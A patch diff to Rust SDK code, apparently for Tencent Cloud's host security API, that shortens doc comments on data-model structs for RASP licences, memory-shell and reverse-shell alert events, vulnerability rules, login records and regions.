+    /// `VulDefAction`; example: `0`
     pub vul_def_action: Option<u64>,
 
-    /// `MemShellDefEnable`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `MemShellDefEnable`; example: `0`
     pub mem_shell_def_enable: Option<u64>,
 
-    /// `SafeInject`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `SafeInject`; example: `0`
     pub safe_inject: Option<u64>,
 
-    /// `PerformanceLimit`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `PerformanceLimit`; example: `0`
     pub performance_limit: Option<u64>,
 
-    /// `PerformanceLimitCpu`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `PerformanceLimitCpu`; example: `0`
     pub performance_limit_cpu: Option<u64>,
 
-    /// `PerformanceLimitMem`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `PerformanceLimitMem`; example: `0`
     pub performance_limit_mem: Option<u64>,
 
-    /// `PerformanceLimitMemAmount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `PerformanceLimitMemAmount`; example: `0`
     pub performance_limit_mem_amount: Option<u64>,
 
-    /// `RaspException`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `RaspException`; example: `0`
     pub rasp_exception: Option<u64>,
 
-    /// `LatestUpdateTime`: a string.
-    ///
-    /// Example: `"0000-00-00 00:00:00"`
+    /// `LatestUpdateTime`; example: `"0000-00-00 00:00:00"`
     pub latest_update_time: Option<String>,
 
-    /// `ClusterName`: a string.
-    ///
-    /// Example: `"cls-id"`
+    /// `ClusterName`; example: `"cls-id"`
     pub cluster_name: Option<String>,
 
-    /// `ClusterId`: a string.
-    ///
-    /// Example: `"集群名称"`
+    /// `ClusterId`; example: `"集群名称"`
     pub cluster_id: Option<String>,
 
-    /// `OrderDetail`: an [`OrderDetail`].
+    /// `OrderDetail`
     pub order_detail: Option<OrderDetail>,
 
-    /// `IsUnBind`: a boolean.
-    ///
-    /// Example: `false`
+    /// `IsUnBind`; example: `false`
     pub is_un_bind: Option<bool>,
 
-    /// `UUID`: a string.
-    ///
-    /// Example: `"e0b41ad5-cf93-49d5-94d0-ffb6febdbed0"`
+    /// `UUID`; example: `"e0b41ad5-cf93-49d5-94d0-ffb6febdbed0"`
     #[tc(rename = "UUID")]
     pub uuid: Option<String>,
 
-    /// `Reason`: a string.
-    ///
-    /// Example: `"存在多种异常情况，请点击 插件状态 查看插件注入详情"`
+    /// `Reason`; example: `"存在多种异常情况，请点击 插件状态 查看插件注入详情"`
     pub reason: Option<String>,
 }
 
@@ -10967,35 +7155,23 @@ pub struct RaspLicenseList {
 /// Returned in the output of [`DescribeRaspPluginList`](super::DescribeRaspPluginList).
 #[tc_model]
 pub struct RaspLicensePlugin {
-    /// `PID`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `PID`; example: `0`
     #[tc(rename = "PID")]
     pub pid: Option<u64>,
 
-    /// `MainClass`: a string.
-    ///
-    /// Example: `"name"`
+    /// `MainClass`; example: `"name"`
     pub main_class: Option<String>,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: Option<u64>,
 
-    /// `ErrorLog`: a string.
-    ///
-    /// Example: `"错误日志"`
+    /// `ErrorLog`; example: `"错误日志"`
     pub error_log: Option<String>,
 
-    /// `Reason`: a string.
-    ///
-    /// Example: `"检测到注入所需的文件socket已缺失。需重启业务进程，重启后系统将会自动重新注入。"`
+    /// `Reason`; example: `"检测到注入所需的文件socket已缺失。需重启业务进程，重启后系统将会自动重新注入。"`
     pub reason: Option<String>,
 
-    /// `InjectTime`: a string.
-    ///
-    /// Example: `"2025-12-03 22:28:56"`
+    /// `InjectTime`; example: `"2025-12-03 22:28:56"`
     pub inject_time: Option<String>,
 }
 
@@ -11004,185 +7180,113 @@ pub struct RaspLicensePlugin {
 /// Returned in the output of [`DescribeRaspMemShellDetailTCSS`](super::DescribeRaspMemShellDetailTCSS).
 #[tc_model]
 pub struct RaspMemShellDetail {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `142`
+    /// `Id`; example: `142`
     pub id: Option<u64>,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
+    /// `Quuid`; example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
     pub quuid: Option<String>,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"dev-centos8"`
+    /// `Alias`; example: `"dev-centos8"`
     pub alias: Option<String>,
 
-    /// `InstanceID`: a string.
-    ///
-    /// Example: `"cls-4waue9dh"`
+    /// `InstanceID`; example: `"cls-4waue9dh"`
     #[tc(rename = "InstanceID")]
     pub instance_id: Option<String>,
 
-    /// `PrivateIp`: a string.
-    ///
-    /// Example: `"10.1.2.5"`
+    /// `PrivateIp`; example: `"10.1.2.5"`
     pub private_ip: Option<String>,
 
-    /// `PublicIp`: a string.
-    ///
-    /// Example: `"192.168.255.10"`
+    /// `PublicIp`; example: `"192.168.255.10"`
     pub public_ip: Option<String>,
 
-    /// `HostTags`: a list of strings.
-    ///
-    /// Example: `["核心资产"]`
+    /// `HostTags`; example: `["核心资产"]`
     pub host_tags: Option<Vec<String>>,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: Option<u64>,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: Option<u64>,
 
-    /// `ClassLoaderName`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `ClassLoaderName`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub class_loader_name: Option<String>,
 
-    /// `SuperClassName`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `SuperClassName`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub super_class_name: Option<String>,
 
-    /// `Interfaces`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `Interfaces`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub interfaces: Option<String>,
 
-    /// `Annotations`: a string.
-    ///
-    /// Example: `"comment"`
+    /// `Annotations`; example: `"comment"`
     pub annotations: Option<String>,
 
-    /// `ClassName`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `ClassName`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub class_name: Option<String>,
 
-    /// `Md5`: a string.
-    ///
-    /// Example: `"37e54fce63f1ca6c82927caf7aa1c412"`
+    /// `Md5`; example: `"37e54fce63f1ca6c82927caf7aa1c412"`
     pub md5: Option<String>,
 
-    /// `Pid`: a signed 64-bit integer.
-    ///
-    /// Example: `1436`
+    /// `Pid`; example: `1436`
     pub pid: Option<i64>,
 
-    /// `Exe`: a string.
-    ///
-    /// Example: `"/usr/lib/jvm/java-6-openjdk-amd64/jre/bin/java"`
+    /// `Exe`; example: `"/usr/lib/jvm/java-6-openjdk-amd64/jre/bin/java"`
     pub exe: Option<String>,
 
-    /// `Args`: a string.
-    ///
-    /// Example: `"org.apache.jasper.servlet.JasperLoader"`
+    /// `Args`; example: `"org.apache.jasper.servlet.JasperLoader"`
     pub args: Option<String>,
 
-    /// `ClassContent`: a string.
-    ///
-    /// Example: `"avewsa==..."`
+    /// `ClassContent`; example: `"avewsa==..."`
     pub class_content: Option<String>,
 
-    /// `ClassContentPretty`: a string.
-    ///
-    /// Example: `"package com.company;  public class Main {      public static voi"`
+    /// `ClassContentPretty`; example: `"package com.company;  public class Main {      public static voi"`
     pub class_content_pretty: Option<String>,
 
-    /// `EventDescription`: a string.
-    ///
-    /// Example: `"腾讯御见..."`
+    /// `EventDescription`; example: `"腾讯御见..."`
     pub event_description: Option<String>,
 
-    /// `SecurityAdvice`: a string.
-    ///
-    /// Example: `"安全建议.."`
+    /// `SecurityAdvice`; example: `"安全建议.."`
     pub security_advice: Option<String>,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `CreateTime`; example: `"2021-01-20 16:17:11"`
     pub create_time: Option<String>,
 
-    /// `RecentFoundTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `RecentFoundTime`; example: `"2021-01-20 16:17:11"`
     pub recent_found_time: Option<String>,
 
-    /// `NodeName`: a string.
-    ///
-    /// Example: `"tke_cls-6ydg4qri_worker3"`
+    /// `NodeName`; example: `"tke_cls-6ydg4qri_worker3"`
     pub node_name: Option<String>,
 
-    /// `NodeId`: a string.
-    ///
-    /// Example: `"ins-od3s0xd1"`
+    /// `NodeId`; example: `"ins-od3s0xd1"`
     pub node_id: Option<String>,
 
-    /// `ContainerName`: a string.
-    ///
-    /// Example: `"k8s"`
+    /// `ContainerName`; example: `"k8s"`
     pub container_name: Option<String>,
 
-    /// `ContainerId`: a string.
-    ///
-    /// Example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
+    /// `ContainerId`; example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
     pub container_id: Option<String>,
 
-    /// `ContainerStatus`: a string.
-    ///
-    /// Example: `"RUNNING"`
+    /// `ContainerStatus`; example: `"RUNNING"`
     pub container_status: Option<String>,
 
-    /// `ContainerNetStatus`: a string.
-    ///
-    /// Example: `"NORMAL"`
+    /// `ContainerNetStatus`; example: `"NORMAL"`
     pub container_net_status: Option<String>,
 
-    /// `ImageId`: a string.
-    ///
-    /// Example: `"sha256:c66abded45cdae32051ed557e8f930dcd46fa3396e0ca280517ca18c0f0d48ea"`
+    /// `ImageId`; example: `"sha256:c66abded45cdae32051ed557e8f930dcd46fa3396e0ca280517ca18c0f0d48ea"`
     pub image_id: Option<String>,
 
-    /// `ImageName`: a string.
-    ///
-    /// Example: `"ccr.ccs.tencentyun.com/tkeimages/apiserver-proxy:v1.4.5"`
+    /// `ImageName`; example: `"ccr.ccs.tencentyun.com/tkeimages/apiserver-proxy:v1.4.5"`
     pub image_name: Option<String>,
 
-    /// `PodName`: a string.
-    ///
-    /// Example: `"kubernetes-proxy-55466756fc-6ptx9"`
+    /// `PodName`; example: `"kubernetes-proxy-55466756fc-6ptx9"`
     pub pod_name: Option<String>,
 
-    /// `PodIp`: a string.
-    ///
-    /// Example: `"10.0.2.120"`
+    /// `PodIp`; example: `"10.0.2.120"`
     pub pod_ip: Option<String>,
 
-    /// `ClusterName`: a string.
-    ///
-    /// Example: `"grafana-test"`
+    /// `ClusterName`; example: `"grafana-test"`
     pub cluster_name: Option<String>,
 
-    /// `ClusterId`: a string.
-    ///
-    /// Example: `"cls-4waue9dh"`
+    /// `ClusterId`; example: `"cls-4waue9dh"`
     pub cluster_id: Option<String>,
 }
 
@@ -11191,182 +7295,112 @@ pub struct RaspMemShellDetail {
 /// Returned in the output of [`DescribeRaspMemShellListTCSS`](super::DescribeRaspMemShellListTCSS).
 #[tc_model]
 pub struct RaspMemShellEvent {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `142`
+    /// `Id`; example: `142`
     pub id: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
+    /// `Quuid`; example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
     pub quuid: String,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"dev-centos8"`
+    /// `Alias`; example: `"dev-centos8"`
     pub alias: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"192.168.255.10"`
+    /// `HostIp`; example: `"192.168.255.10"`
     pub host_ip: String,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: u64,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"测到java进程1128220/org.apache.catalina.startup.Bootstrap start中加载的o"`
+    /// `Description`; example: `"测到java进程1128220/org.apache.catalina.startup.Bootstrap start中加载的o"`
     pub description: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `CreateTime`; example: `"2021-01-20 16:17:11"`
     pub create_time: String,
 
-    /// `RecentFoundTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `RecentFoundTime`; example: `"2021-01-20 16:17:11"`
     pub recent_found_time: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `Md5`: a string.
-    ///
-    /// Example: `"37e54fce63f1ca6c82927caf7aa1c412"`
+    /// `Md5`; example: `"37e54fce63f1ca6c82927caf7aa1c412"`
     pub md5: Option<String>,
 
-    /// `ClassName`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `ClassName`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub class_name: Option<String>,
 
-    /// `SuperClassName`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `SuperClassName`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub super_class_name: Option<String>,
 
-    /// `Interfaces`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `Interfaces`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub interfaces: Option<String>,
 
-    /// `Annotations`: a string.
-    ///
-    /// Example: `"comment"`
+    /// `Annotations`; example: `"comment"`
     pub annotations: Option<String>,
 
-    /// `LoaderClassName`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `LoaderClassName`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub loader_class_name: Option<String>,
 
-    /// `Pid`: a signed 64-bit integer.
-    ///
-    /// Example: `1436`
+    /// `Pid`; example: `1436`
     pub pid: Option<i64>,
 
-    /// `Exe`: a string.
-    ///
-    /// Example: `"/usr/lib/jvm/java-6-openjdk-amd64/jre/bin/java"`
+    /// `Exe`; example: `"/usr/lib/jvm/java-6-openjdk-amd64/jre/bin/java"`
     pub exe: Option<String>,
 
-    /// `Args`: a string.
-    ///
-    /// Example: `"org.apache.jasper.servlet.JasperLoader"`
+    /// `Args`; example: `"org.apache.jasper.servlet.JasperLoader"`
     pub args: Option<String>,
 
-    /// `NodeName`: a string.
-    ///
-    /// Example: `"tke_cls-6ydg4qri_worker3"`
+    /// `NodeName`; example: `"tke_cls-6ydg4qri_worker3"`
     pub node_name: Option<String>,
 
-    /// `NodeId`: a string.
-    ///
-    /// Example: `"ins-od3s0xd1"`
+    /// `NodeId`; example: `"ins-od3s0xd1"`
     pub node_id: Option<String>,
 
-    /// `ContainerName`: a string.
-    ///
-    /// Example: `"k8s"`
+    /// `ContainerName`; example: `"k8s"`
     pub container_name: Option<String>,
 
-    /// `ContainerId`: a string.
-    ///
-    /// Example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
+    /// `ContainerId`; example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
     pub container_id: Option<String>,
 
-    /// `ContainerStatus`: a string.
-    ///
-    /// Example: `"RUNNING"`
+    /// `ContainerStatus`; example: `"RUNNING"`
     pub container_status: Option<String>,
 
-    /// `ContainerNetStatus`: a string.
-    ///
-    /// Example: `"NORMAL"`
+    /// `ContainerNetStatus`; example: `"NORMAL"`
     pub container_net_status: Option<String>,
 
-    /// `ImageId`: a string.
-    ///
-    /// Example: `"sha256:c66abded45cdae32051ed557e8f930dcd46fa3396e0ca280517ca18c0f0d48ea"`
+    /// `ImageId`; example: `"sha256:c66abded45cdae32051ed557e8f930dcd46fa3396e0ca280517ca18c0f0d48ea"`
     pub image_id: Option<String>,
 
-    /// `ImageName`: a string.
-    ///
-    /// Example: `"ccr.ccs.tencentyun.com/tkeimages/apiserver-proxy:v1.4.5"`
+    /// `ImageName`; example: `"ccr.ccs.tencentyun.com/tkeimages/apiserver-proxy:v1.4.5"`
     pub image_name: Option<String>,
 
-    /// `PodName`: a string.
-    ///
-    /// Example: `"kubernetes-proxy-55466756fc-6ptx9"`
+    /// `PodName`; example: `"kubernetes-proxy-55466756fc-6ptx9"`
     pub pod_name: Option<String>,
 
-    /// `PodIp`: a string.
-    ///
-    /// Example: `"10.0.2.120"`
+    /// `PodIp`; example: `"10.0.2.120"`
     pub pod_ip: Option<String>,
 
-    /// `ClusterName`: a string.
-    ///
-    /// Example: `"grafana-test"`
+    /// `ClusterName`; example: `"grafana-test"`
     pub cluster_name: Option<String>,
 
-    /// `ClusterId`: a string.
-    ///
-    /// Example: `"cls-4waue9dh"`
+    /// `ClusterId`; example: `"cls-4waue9dh"`
     pub cluster_id: Option<String>,
 
-    /// `InstanceID`: a string.
-    ///
-    /// Example: `"ins-od3s0xd1"`
+    /// `InstanceID`; example: `"ins-od3s0xd1"`
     #[tc(rename = "InstanceID")]
     pub instance_id: Option<String>,
 
-    /// `HostInnerIP`: a string.
-    ///
-    /// Example: `"10.0.2.120"`
+    /// `HostInnerIP`; example: `"10.0.2.120"`
     #[tc(rename = "HostInnerIP")]
     pub host_inner_ip: Option<String>,
 
-    /// `HostPublicIP`: a string.
-    ///
-    /// Example: `"192.168.255.10"`
+    /// `HostPublicIP`; example: `"192.168.255.10"`
     #[tc(rename = "HostPublicIP")]
     pub host_public_ip: Option<String>,
 
-    /// `NodeType`: a string.
-    ///
-    /// Example: `"NORMAL"`
+    /// `NodeType`; example: `"NORMAL"`
     pub node_type: Option<String>,
 
-    /// `NodeUniqueID`: a string.
-    ///
-    /// Example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
+    /// `NodeUniqueID`; example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
     #[tc(rename = "NodeUniqueID")]
     pub node_unique_id: Option<String>,
 }
@@ -11376,57 +7410,37 @@ pub struct RaspMemShellEvent {
 /// Returned in the output of [`DescribeRaspRules`](super::DescribeRaspRules).
 #[tc_model]
 pub struct RaspRule {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `222`
+    /// `Id`; example: `222`
     pub id: u64,
 
-    /// `URLRegexp`: a string.
-    ///
-    /// Example: `"regexp"`
+    /// `URLRegexp`; example: `"regexp"`
     #[tc(rename = "URLRegexp")]
     pub url_regexp: String,
 
-    /// `VulVulsID`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100`
+    /// `VulVulsID`; example: `100`
     #[tc(rename = "VulVulsID")]
     pub vul_vuls_id: u64,
 
-    /// `VulVulsName`: a string.
-    ///
-    /// Example: `"vulVulName"`
+    /// `VulVulsName`; example: `"vulVulName"`
     pub vul_vuls_name: String,
 
-    /// `CveID`: a string.
-    ///
-    /// Example: `"CVE-2015-7975"`
+    /// `CveID`; example: `"CVE-2015-7975"`
     #[tc(rename = "CveID")]
     pub cve_id: Option<String>,
 
-    /// `SupportDefense`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SupportDefense`; example: `1`
     pub support_defense: u64,
 
-    /// `WhiteType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `WhiteType`; example: `1`
     pub white_type: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2020-01-08 09:15:00"`
+    /// `CreateTime`; example: `"2020-01-08 09:15:00"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2020-01-08 09:15:00"`
+    /// `ModifyTime`; example: `"2020-01-08 09:15:00"`
     pub modify_time: String,
 }
 
@@ -11435,26 +7449,18 @@ pub struct RaspRule {
 /// Returned in the output of [`DescribeRaspRuleVuls`](super::DescribeRaspRuleVuls).
 #[tc_model]
 pub struct RaspRuleVul {
-    /// `VulVulsID`: an unsigned 64-bit integer.
-    ///
-    /// Example: `104845`
+    /// `VulVulsID`; example: `104845`
     #[tc(rename = "VulVulsID")]
     pub vul_vuls_id: u64,
 
-    /// `VulVulsName`: a string.
-    ///
-    /// Example: `"JetBrains TeamCity 安全漏洞"`
+    /// `VulVulsName`; example: `"JetBrains TeamCity 安全漏洞"`
     pub vul_vuls_name: String,
 
-    /// `CveID`: a string.
-    ///
-    /// Example: `"CVE-2023-42793"`
+    /// `CveID`; example: `"CVE-2023-42793"`
     #[tc(rename = "CveID")]
     pub cve_id: Option<String>,
 
-    /// `SupportDefense`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SupportDefense`; example: `1`
     pub support_defense: u64,
 }
 
@@ -11463,19 +7469,13 @@ pub struct RaspRuleVul {
 /// Returned in the output of [`DescribeHostLoginList`](super::DescribeHostLoginList).
 #[tc_model]
 pub struct RecentLoginItem {
-    /// `LoginTime`: a string.
-    ///
-    /// Example: `"2022-08-23 11:49:46"`
+    /// `LoginTime`; example: `"2022-08-23 11:49:46"`
     pub login_time: String,
 
-    /// `LoginType`: a signed 64-bit integer.
-    ///
-    /// Example: `3`
+    /// `LoginType`; example: `3`
     pub login_type: i64,
 
-    /// `LoginTypeDesc`: a string.
-    ///
-    /// Example: `"密钥登录"`
+    /// `LoginTypeDesc`; example: `"密钥登录"`
     pub login_type_desc: String,
 }
 
@@ -11484,36 +7484,24 @@ pub struct RecentLoginItem {
 /// Returned in the output of [`DescribeClientException`](super::DescribeClientException).
 #[tc_model]
 pub struct RecordInfo {
-    /// `HostIP`: a string.
-    ///
-    /// Example: `"10.10.10.10"`
+    /// `HostIP`; example: `"10.10.10.10"`
     #[tc(rename = "HostIP")]
     pub host_ip: String,
 
-    /// `InstanceID`: a string.
-    ///
-    /// Example: `"ins-gdsgdsd"`
+    /// `InstanceID`; example: `"ins-gdsgdsd"`
     #[tc(rename = "InstanceID")]
     pub instance_id: String,
 
-    /// `OfflineTime`: a string.
-    ///
-    /// Example: `"2022-11-14 00:00:00"`
+    /// `OfflineTime`; example: `"2022-11-14 00:00:00"`
     pub offline_time: String,
 
-    /// `UninstallTime`: a string.
-    ///
-    /// Example: `"2022-11-14 00:00:00"`
+    /// `UninstallTime`; example: `"2022-11-14 00:00:00"`
     pub uninstall_time: String,
 
-    /// `UninstallCmd`: a string.
-    ///
-    /// Example: `"sh uninstall.sh"`
+    /// `UninstallCmd`; example: `"sh uninstall.sh"`
     pub uninstall_cmd: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"c6bf7a9e-95cf-4048-a6cc-97e85d02e6ee"`
+    /// `Uuid`; example: `"c6bf7a9e-95cf-4048-a6cc-97e85d02e6ee"`
     pub uuid: String,
 }
 
@@ -11522,29 +7510,19 @@ pub struct RecordInfo {
 /// Returned in the output of [`DescribeLoginTypeHost`](super::DescribeLoginTypeHost), [`DescribeMachineList`](super::DescribeMachineList), [`DescribeMachineRegionList`](super::DescribeMachineRegionList), [`DescribeMachineRegions`](super::DescribeMachineRegions), [`DescribeMachines`](super::DescribeMachines), [`DescribeMachinesSimple`](super::DescribeMachinesSimple) and 3 more.
 #[tc_model]
 pub struct RegionInfo {
-    /// `Region`: a string.
-    ///
-    /// Example: `"ap-guangzhou"`
+    /// `Region`; example: `"ap-guangzhou"`
     pub region: String,
 
-    /// `RegionName`: a string.
-    ///
-    /// Example: `"华南地区（广州）"`
+    /// `RegionName`; example: `"华南地区（广州）"`
     pub region_name: String,
 
-    /// `RegionId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RegionId`; example: `1`
     pub region_id: u64,
 
-    /// `RegionCode`: a string.
-    ///
-    /// Example: `"gz"`
+    /// `RegionCode`; example: `"gz"`
     pub region_code: String,
 
-    /// `RegionNameEn`: a string.
-    ///
-    /// Example: `"South China (Guangzhou)"`
+    /// `RegionNameEn`; example: `"South China (Guangzhou)"`
     pub region_name_en: String,
 }
 
@@ -11553,17 +7531,13 @@ pub struct RegionInfo {
 /// Returned in the output of [`DescribeMachineRegionList`](super::DescribeMachineRegionList).
 #[tc_model]
 pub struct RegionListDetail {
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: Option<String>,
 
-    /// `CloudFrom`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `CloudFrom`; example: `0`
     pub cloud_from: Option<u64>,
 
-    /// `RegionList`: a list of [`RegionInfo`] objects.
+    /// `RegionList`
     pub region_list: Option<Vec<RegionInfo>>,
 }
 
@@ -11572,14 +7546,10 @@ pub struct RegionListDetail {
 /// Returned in the output of [`DescribeBanRegions`](super::DescribeBanRegions).
 #[tc_model]
 pub struct RegionSet {
-    /// `RegionName`: a string.
-    ///
-    /// Example: `"华南地区（广州）"`
+    /// `RegionName`; example: `"华南地区（广州）"`
     pub region_name: String,
 
-    /// `ZoneSet`: a list of [`ZoneInfo`] objects.
-    ///
-    /// Example: `[{"ZoneName":"广州二区"}]`
+    /// `ZoneSet`; example: `[{"ZoneName":"广州二区"}]`
     pub zone_set: Vec<ZoneInfo>,
 }
 
@@ -11588,40 +7558,26 @@ pub struct RegionSet {
 /// Returned in the output of [`DescribePatchInfo`](super::DescribePatchInfo).
 #[tc_model]
 pub struct RelateVulInfo {
-    /// `CveId`: a string.
-    ///
-    /// Example: `"CVE-2025-0330"`
+    /// `CveId`; example: `"CVE-2025-0330"`
     pub cve_id: Option<String>,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"Windows漏洞"`
+    /// `Name`; example: `"Windows漏洞"`
     pub name: Option<String>,
 
-    /// `Label`: a string.
-    ///
-    /// Example: `"远程利用"`
+    /// `Label`; example: `"远程利用"`
     pub label: Option<String>,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `Level`; example: `2`
     pub level: Option<u64>,
 
-    /// `CVSS`: a floating-point number.
-    ///
-    /// Example: `9.0`
+    /// `CVSS`; example: `9.0`
     #[tc(rename = "CVSS")]
     pub cvss: Option<f64>,
 
-    /// `PublishTime`: a string.
-    ///
-    /// Example: `"2021-03-16 16:21:51"`
+    /// `PublishTime`; example: `"2021-03-16 16:21:51"`
     pub publish_time: Option<String>,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `154455587`
+    /// `Id`; example: `154455587`
     pub id: Option<u64>,
 }
 
@@ -11630,122 +7586,76 @@ pub struct RelateVulInfo {
 /// Returned in the output of [`DescribeReverseShellEvents`](super::DescribeReverseShellEvents).
 #[tc_model]
 pub struct ReverseShell {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `11`
+    /// `Id`; example: `11`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"dsdsds"`
+    /// `Uuid`; example: `"dsdsds"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"dsdsds"`
+    /// `Quuid`; example: `"dsdsds"`
     pub quuid: String,
 
-    /// `Hostip`: a string.
-    ///
-    /// Example: `"127.0.0.1"`
+    /// `Hostip`; example: `"127.0.0.1"`
     pub hostip: String,
 
-    /// `DstIp`: a string.
-    ///
-    /// Example: `"127.0.0.1"`
+    /// `DstIp`; example: `"127.0.0.1"`
     pub dst_ip: String,
 
-    /// `DstPort`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `DstPort`; example: `12`
     pub dst_port: u64,
 
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"1.exe"`
+    /// `ProcessName`; example: `"1.exe"`
     pub process_name: String,
 
-    /// `FullPath`: a string.
-    ///
-    /// Example: `"/home"`
+    /// `FullPath`; example: `"/home"`
     pub full_path: String,
 
-    /// `CmdLine`: a string.
-    ///
-    /// Example: `"dadad"`
+    /// `CmdLine`; example: `"dadad"`
     pub cmd_line: String,
 
-    /// `UserName`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserName`; example: `"root"`
     pub user_name: String,
 
-    /// `UserGroup`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserGroup`; example: `"root"`
     pub user_group: String,
 
-    /// `ParentProcName`: a string.
-    ///
-    /// Example: `"2.exe"`
+    /// `ParentProcName`; example: `"2.exe"`
     pub parent_proc_name: String,
 
-    /// `ParentProcUser`: a string.
-    ///
-    /// Example: `"root"`
+    /// `ParentProcUser`; example: `"root"`
     pub parent_proc_user: String,
 
-    /// `ParentProcGroup`: a string.
-    ///
-    /// Example: `"root"`
+    /// `ParentProcGroup`; example: `"root"`
     pub parent_proc_group: String,
 
-    /// `ParentProcPath`: a string.
-    ///
-    /// Example: `"/home"`
+    /// `ParentProcPath`; example: `"/home"`
     pub parent_proc_path: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `Status`; example: `2`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-05-20 17:00:33"`
+    /// `CreateTime`; example: `"2021-05-20 17:00:33"`
     pub create_time: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"sasas"`
+    /// `MachineName`; example: `"sasas"`
     pub machine_name: String,
 
-    /// `ProcTree`: a string.
-    ///
-    /// Example: `"sasas"`
+    /// `ProcTree`; example: `"sasas"`
     pub proc_tree: String,
 
-    /// `DetectBy`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `DetectBy`; example: `1`
     pub detect_by: u64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
